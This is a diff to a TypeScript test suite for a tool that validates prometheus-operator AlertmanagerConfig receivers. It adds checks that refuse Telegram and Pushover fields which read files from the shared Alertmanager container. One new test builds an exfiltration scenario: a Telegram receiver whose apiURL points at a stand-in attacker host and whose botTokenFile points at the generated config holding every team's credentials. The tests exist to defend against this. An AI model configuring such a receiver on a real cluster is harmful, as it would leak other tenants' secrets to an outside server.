@@ -324,13 +324,13 @@ const KINDS: Array<{ kind: string; receiver: Omit<AlertmanagerConfigReceiver, 'n
     receiver: {
       telegramConfigs: [
         { sendResolved: true, apiURL: 'https://api.telegram.org', botToken: sk('telegram', 'token'), chatID: -1001234567890, messageThreadID: 42, message: '{{ template "telegram.default.message" . }}', disableNotifications: true, parseMode: 'HTML' },
-        { botTokenFile: '/etc/alertmanager/secrets/telegram/token', chatID: 12345, disableNotifications: false },
+        { botToken: sk('telegram', 'token'), chatID: 12345, disableNotifications: false },
       ],
     },
     expected: {
       telegram_configs: [
         { send_resolved: true, api_url: 'https://api.telegram.org', bot_token: '123456:tg-s3cr3t', chat_id: -1001234567890, message_thread_id: 42, message: '{{ template "telegram.default.message" . }}', disable_notifications: true, parse_mode: 'HTML' },
-        { bot_token_file: '/etc/alertmanager/secrets/telegram/token', chat_id: 12345 },
+        { bot_token: '123456:tg-s3cr3t', chat_id: 12345 },
       ],
     },
   },
@@ -402,7 +402,7 @@ const KINDS: Array<{ kind: string; receiver: Omit<AlertmanagerConfigReceiver, 'n
           expire: '2h',
           html: true,
         },
-        { userKeyFile: '/etc/alertmanager/secrets/pushover/user', tokenFile: '/etc/alertmanager/secrets/pushover/token', monospace: true },
+        { userKey: sk('pushover', 'user'), token: sk('pushover', 'token'), monospace: true },
       ],
     },
     expected: {
@@ -423,7 +423,7 @@ const KINDS: Array<{ kind: string; receiver: Omit<AlertmanagerConfigReceiver, 'n
           expire: '2h',
           html: true,
         },
-        { user_key_file: '/etc/alertmanager/secrets/pushover/user', token_file: '/etc/alertmanager/secrets/pushover/token', monospace: true },
+        { user_key: 'po-user-s3cr3t', token: 'po-token-s3cr3t', monospace: true },
       ],
     },
   },
@@ -599,6 +599,7 @@ describe('an AlertmanagerConfig receiver whose Secret is missing', () => {
 
 describe('an AlertmanagerConfig receiver that prometheus-operator would refuse', () => {
   const problemsOf = (receiver: Omit<AlertmanagerConfigReceiver, 'name'>) => render(receiver).findings.problems;
+  const FILE_REFUSED = (secretField: string) => `reads a file of the Alertmanager container, where every team's credentials are; give the value from a Secret of this namespace with ${secretField}`;
 
   it('names the email notifier without a to address', () => {
     expect(problemsOf({ emailConfigs: [{ to: 'a@example.com', smarthost: 'smtp:25' }, { from: 'b@example.com' }] })).toEqual([
@@ -653,11 +654,26 @@ describe('an AlertmanagerConfig receiver that prometheus-operator would refuse',
   });
 
   it('names Telegram without a bot token or chat, or with both a token and a token file', () => {
-    expect(problemsOf({ telegramConfigs: [{ chatID: 0 }, { chatID: 1, botToken: sk('telegram', 'token'), botTokenFile: '/etc/token' }, { chatID: 1, botTokenFile: '/etc/alertmanager/secrets/tg/token' }] })).toEqual([
+    expect(problemsOf({ telegramConfigs: [{ chatID: 0 }, { chatID: 1, botToken: sk('telegram', 'token'), botTokenFile: '/etc/token' }] })).toEqual([
       { path: 'spec.receivers[0].telegramConfigs[0]', message: 'one of botToken or botTokenFile is required' },
       { path: 'spec.receivers[0].telegramConfigs[0].chatID', message: 'a Telegram notifier needs a chatID' },
+      { path: 'spec.receivers[0].telegramConfigs[1].botTokenFile', message: FILE_REFUSED('botToken') },
       { path: 'spec.receivers[0].telegramConfigs[1]', message: 'botToken and botTokenFile cannot both be set' },
     ]);
+  });
+
+  it('refuses the fields that read a file of the Alertmanager container, where every team\'s credentials are', () => {
+    // With apiURL pointing at its own server, a team could have Alertmanager send it the generated configuration.
+    const receiver = {
+      telegramConfigs: [{ chatID: 1, apiURL: 'https://attacker.example', botTokenFile: '/etc/alertmanager/config/alertmanager.yaml' }],
+      pushoverConfigs: [{ userKeyFile: '/etc/alertmanager/config/alertmanager.yaml', tokenFile: '/etc/alertmanager/config/alertmanager.yaml' }],
+    };
+    expect(problemsOf(receiver)).toEqual([
+      { path: 'spec.receivers[0].pushoverConfigs[0].userKeyFile', message: FILE_REFUSED('userKey') },
+      { path: 'spec.receivers[0].pushoverConfigs[0].tokenFile', message: FILE_REFUSED('token') },
+      { path: 'spec.receivers[0].telegramConfigs[0].botTokenFile', message: FILE_REFUSED('botToken') },
+    ]);
+    expect(JSON.stringify(render(receiver).rendered)).not.toContain('_file');
   });
 
   it('names Pushover without keys, or with html and monospace together', () => {
